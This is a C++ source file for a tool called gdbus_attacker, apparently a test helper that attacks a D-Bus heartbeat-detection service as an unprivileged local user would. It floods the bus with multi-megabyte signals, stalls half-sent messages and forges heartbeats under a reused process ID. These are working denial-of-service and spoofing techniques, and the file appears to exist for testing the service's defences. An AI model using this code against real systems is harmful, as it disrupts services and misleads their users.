// An unprivileged local user's attacks on heartbeat detection, over a raw
// socket to a bus (unix:path= addresses only), written the way such a user
// would: hand-made messages, sent in pieces when that hurts more.
//
//   gdbus_attacker big ADDRESS MEGABYTES COUNT INTERVAL-MS [hold] [to PID]
//       sends COUNT heartbeat-shaped signals of MEGABYTES each (millions of
//       empty entries), one every INTERVAL-MS; to everyone, or to the
//       connections of process PID. With hold, the first is half sent and
//       finished only once standard input ends.
//   gdbus_attacker trigger ADDRESS MEGABYTES
//       half sends one such signal and finishes it as soon as the first real
//       heartbeat goes by; stays 3 s.
//   gdbus_attacker reuse ADDRESS SECONDS
//       connects, prints "pid N", and hands the connection to a child while N
//       itself ends: the child posts heartbeats under the text N, naming the
//       viewer /opt/Elsewhere.app, every 20 ms for SECONDS.

#include <fcntl.h>
#include <gio/gio.h>
#include <poll.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <thread>
#include <utility>
#include <vector>

namespace {

// Little-endian D-Bus marshalling, just enough for a few messages.
struct Writer {
    std::string bytes;
    void align(size_t n) {
        while (bytes.size() % n != 0) bytes += '\0';
    }
    void u8(uint8_t v) { bytes += static_cast<char>(v); }
    void u32(uint32_t v) {
        align(4);
        for (int i = 0; i < 4; ++i) bytes += static_cast<char>((v >> (8 * i)) & 0xff);
    }
    void setU32(size_t at, uint32_t v) {
        for (int i = 0; i < 4; ++i) bytes[at + i] = static_cast<char>((v >> (8 * i)) & 0xff);
    }
    void str(const std::string& s) {
        u32(static_cast<uint32_t>(s.size()));
        bytes += s;
        bytes += '\0';
    }
    void sig(const std::string& s) {
        u8(static_cast<uint8_t>(s.size()));
        bytes += s;
        bytes += '\0';
    }
};

struct Field {
    uint8_t code;
    char type;  // 's', 'o' or 'g'
    std::string value;
};

// A whole message: type, header fields, and a body already marshalled at
// offset 0 (8-aligned).
std::string Message(uint8_t type, const std::vector<Field>& fields, const std::string& body, uint32_t serial) {
    Writer w;
    w.u8('l');
    w.u8(type);
    w.u8(type == 4 ? 1 : 0);  // signals expect no reply
    w.u8(1);
    w.u32(static_cast<uint32_t>(body.size()));
    w.u32(serial);
    const size_t lengthAt = w.bytes.size();
    w.u32(0);
    const size_t start = w.bytes.size();
    for (const Field& f : fields) {
        w.align(8);
        w.u8(f.code);
        w.sig(std::string(1, f.type));
        if (f.type == 'g') {
            w.sig(f.value);
        } else {
            w.str(f.value);
        }
    }
    w.setU32(lengthAt, static_cast<uint32_t>(w.bytes.size() - start));
    w.align(8);
    return w.bytes + body;
}

// The body (s object, a{ss} entries).
std::string HeartbeatBody(const std::string& object, const std::vector<std::pair<std::string, std::string>>& entries) {
    Writer w;
    w.str(object);
    w.u32(0);
    const size_t lengthAt = w.bytes.size() - 4;
    w.align(8);
    const size_t start = w.bytes.size();
    for (const auto& [key, value] : entries) {
        w.align(8);
        w.str(key);
        w.str(value);
    }
    w.setU32(lengthAt, static_cast<uint32_t>(w.bytes.size() - start));
    return w.bytes;
}

// About megabytes of empty entries, without building a list of them.
std::string BigBody(size_t megabytes) {
    Writer w;
    w.str("1");
    w.u32(0);
    const size_t lengthAt = w.bytes.size() - 4;
    w.align(8);
    const size_t start = w.bytes.size();
    const size_t entries = megabytes * 1024 * 1024 / 16;
    std::string entry(16, '\0');  // "" then "" at offset 8, padded to 16
    w.bytes.reserve(start + entries * 16);
    for (size_t i = 0; i < entries; ++i) w.bytes += entry;
    w.bytes.resize(w.bytes.size() - 3);  // the last entry ends after its value
    w.setU32(lengthAt, static_cast<uint32_t>(w.bytes.size() - start));
    return w.bytes;
}

std::vector<Field> HeartbeatFields(const std::string& destination) {
    std::vector<Field> fields = {{1, 'o', "/com/veldane/Tolm"},
                                 {2, 's', "com.veldane.Tolm"},
                                 {3, 's', "Heartbeat"},
                                 {8, 'g', "sa{ss}"}};
    if (!destination.empty()) fields.push_back({6, 's', destination});
    return fields;
}

bool WriteAll(int fd, const char* data, size_t size) {
    while (size > 0) {
        const ssize_t n = ::send(fd, data, size, MSG_NOSIGNAL);
        if (n < 0 && errno == EINTR) continue;
        if (n <= 0) return false;
        data += n;
        size -= static_cast<size_t>(n);
    }
    return true;
}

// A raw connection: authenticated, Hello sent (its answer is never read).
int Connect(const std::string& address) {
    const std::string prefix = "unix:path=";
    if (address.rfind(prefix, 0) != 0) return -1;
    std::string path = address.substr(prefix.size());
    path = path.substr(0, path.find(','));
    const int fd = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    sockaddr_un where{};
    where.sun_family = AF_UNIX;
    std::strncpy(where.sun_path, path.c_str(), sizeof(where.sun_path) - 1);
    if (::connect(fd, reinterpret_cast<sockaddr*>(&where), sizeof(where)) != 0) return -1;
    std::string hex;
    for (char c : std::to_string(::geteuid())) {
        char two[3];
        std::snprintf(two, sizeof(two), "%02x", static_cast<unsigned char>(c));
        hex += two;
    }
    const std::string auth = std::string(1, '\0') + "AUTH EXTERNAL " + hex + "\r\n";
    if (!WriteAll(fd, auth.data(), auth.size())) return -1;
    std::string line;
    char c = 0;
    while (line.find('\n') == std::string::npos && ::read(fd, &c, 1) == 1) line += c;
    if (line.rfind("OK ", 0) != 0) return -1;
    const std::string hello =
        "BEGIN\r\n" + Message(1,
                              {{1, 'o', "/org/freedesktop/DBus"},
                               {2, 's', "org.freedesktop.DBus"},
                               {3, 's', "Hello"},
                               {6, 's', "org.freedesktop.DBus"}},
                              "", 1);
    if (!WriteAll(fd, hello.data(), hello.size())) return -1;
    // Whatever the bus sends is read and thrown away, so that it never stops
    // reading this connection.
    std::thread([fd] {
        char buffer[65536];
        while (::read(fd, buffer, sizeof(buffer)) > 0) {
        }
    }).detach();
    return fd;
}

GDBusConnection* Bus(const std::string& address) {
    return g_dbus_connection_new_for_address_sync(
        address.c_str(),
        static_cast<GDBusConnectionFlags>(G_DBUS_CONNECTION_FLAGS_AUTHENTICATION_CLIENT |
                                          G_DBUS_CONNECTION_FLAGS_MESSAGE_BUS_CONNECTION),
        nullptr, nullptr, nullptr);
}

// The unique name of a connection of process pid, waiting up to 10 s for one.
std::string NameOf(const std::string& address, long pid) {
    GDBusConnection* bus = Bus(address);
    if (bus == nullptr) return "";
    for (int tries = 0; tries < 100; ++tries) {
        GVariant* names = g_dbus_connection_call_sync(bus, "org.freedesktop.DBus", "/org/freedesktop/DBus",
                                                      "org.freedesktop.DBus", "ListNames", nullptr,
                                                      G_VARIANT_TYPE("(as)"), G_DBUS_CALL_FLAGS_NONE, 2000, nullptr,
                                                      nullptr);
        GVariantIter* iter = nullptr;
        const char* name = nullptr;
        std::string found;
        g_variant_get(names, "(as)", &iter);
        while (found.empty() && g_variant_iter_next(iter, "&s", &name)) {
            if (name[0] != ':') continue;
            GVariant* owner = g_dbus_connection_call_sync(
                bus, "org.freedesktop.DBus", "/org/freedesktop/DBus", "org.freedesktop.DBus",
                "GetConnectionUnixProcessID", g_variant_new("(s)", name), G_VARIANT_TYPE("(u)"),
                G_DBUS_CALL_FLAGS_NONE, 2000, nullptr, nullptr);
            if (owner == nullptr) continue;
            guint32 value = 0;
            g_variant_get(owner, "(u)", &value);
            g_variant_unref(owner);
            if (static_cast<long>(value) == pid) found = name;
        }
        g_variant_iter_free(iter);
        g_variant_unref(names);
        if (!found.empty()) return found;
        std::this_thread::sleep_for(std::chrono::milliseconds(100));
    }
    return "";
}

void WaitForInputEnd() {
    char c;
    while (::read(0, &c, 1) > 0) {
    }
}

int Big(int argc, char** argv) {
    const std::string address = argv[2];
    const size_t megabytes = std::strtoul(argv[3], nullptr, 10);
    const long count = std::atol(argv[4]);
    const auto interval = std::chrono::milliseconds(std::atol(argv[5]));
    bool hold = false;
    long target = 0;
    for (int i = 6; i < argc; ++i) {
        if (std::strcmp(argv[i], "hold") == 0) hold = true;
        if (std::strcmp(argv[i], "to") == 0 && i + 1 < argc) target = std::atol(argv[++i]);
    }
    std::string destination;
    if (target != 0 && (destination = NameOf(address, target)).empty()) {
        std::printf("no connection of process %ld\n", target);
        return 2;
    }
    const int fd = Connect(address);
    if (fd < 0) {
        std::printf("cannot connect to %s\n", address.c_str());
        return 2;
    }
    std::string message = Message(4, HeartbeatFields(destination), BigBody(megabytes), 2);
    for (long i = 0; i < count; ++i) {
        Writer serial;
        serial.bytes = message;
        serial.setU32(8, static_cast<uint32_t>(i + 2));
        message.swap(serial.bytes);
        size_t sent = 0;
        if (hold && i == 0) {
            sent = message.size() / 2;
            if (!WriteAll(fd, message.data(), sent)) return 1;
            std::printf("half sent\n");
            std::fflush(stdout);
            WaitForInputEnd();
        }
        if (!WriteAll(fd, message.data() + sent, message.size() - sent)) return 1;
        std::this_thread::sleep_for(interval);
    }
    std::printf("sent %ld\n", count);
    return 0;
}

int Trigger(char** argv) {
    const std::string address = argv[2];
    const int fd = Connect(address);
    GDBusConnection* watch = Bus(address);
    if (fd < 0 || watch == nullptr) return 2;
    const std::string message = Message(4, HeartbeatFields(""), BigBody(std::strtoul(argv[3], nullptr, 10)), 2);
    const size_t held = 1024;
    if (!WriteAll(fd, message.data(), message.size() - held)) return 1;
    GMainLoop* loop = g_main_loop_new(nullptr, FALSE);
    struct State {
        int fd;
        const std::string* message;
        size_t held;
        GMainLoop* loop;
    } state{fd, &message, held, loop};
    g_dbus_connection_signal_subscribe(
        watch, nullptr, "com.veldane.Tolm", "Heartbeat", "/com/veldane/Tolm", nullptr, G_DBUS_SIGNAL_FLAGS_NONE,
        [](GDBusConnection*, const char*, const char*, const char*, const char*, GVariant*, gpointer data) {
            auto* s = static_cast<State*>(data);
            if (s->loop == nullptr) return;
            WriteAll(s->fd, s->message->data() + s->message->size() - s->held, s->held);
            std::printf("released\n");
            std::fflush(stdout);
            g_timeout_add(3000, [](gpointer loop) { g_main_loop_quit(static_cast<GMainLoop*>(loop)); return G_SOURCE_REMOVE; },
                          s->loop);
            s->loop = nullptr;
        },
        &state, nullptr);
    std::printf("waiting\n");
    std::fflush(stdout);
    g_main_loop_run(loop);
    return 0;
}

int Reuse(char** argv) {
    const int fd = Connect(argv[2]);
    if (fd < 0) return 2;
    const double seconds = std::atof(argv[3]);
    const std::string pid = std::to_string(::getpid());
    std::printf("pid %s\n", pid.c_str());
    std::fflush(stdout);
    if (::fork() != 0) _exit(0);  // the pid is free for the taking
    const int null = ::open("/dev/null", O_WRONLY);
    ::dup2(null, 1);
    ::dup2(null, 2);
    const std::string body = HeartbeatBody(pid, {{"kUserInfoHostAppPath", "/Applications/Flood.app"},
                                                 {"kUserInfoHostDisplayName", "Flood"},
                                                 {"kUserInfoLumaroAppPath", "/opt/Elsewhere.app"}});
    const auto end = std::chrono::steady_clock::now() + std::chrono::duration<double>(seconds);
    for (uint32_t serial = 2; std::chrono::steady_clock::now() < end; ++serial) {
        const std::string message = Message(4, HeartbeatFields(""), body, serial);
        if (!WriteAll(fd, message.data(), message.size())) return 1;
        std::this_thread::sleep_for(std::chrono::milliseconds(20));
    }
    return 0;
}

}  // namespace

int main(int argc, char** argv) {
    const std::string command = argc > 1 ? argv[1] : "";
    if (command == "big" && argc >= 6) return Big(argc, argv);
    if (command == "trigger" && argc >= 4) return Trigger(argv);
    if (command == "reuse" && argc >= 4) return Reuse(argv);
    std::printf("usage: gdbus_attacker big ADDRESS MEGABYTES COUNT INTERVAL-MS [hold] [to PID] | "
                "trigger ADDRESS MEGABYTES | reuse ADDRESS SECONDS\n");
    return 2;
}
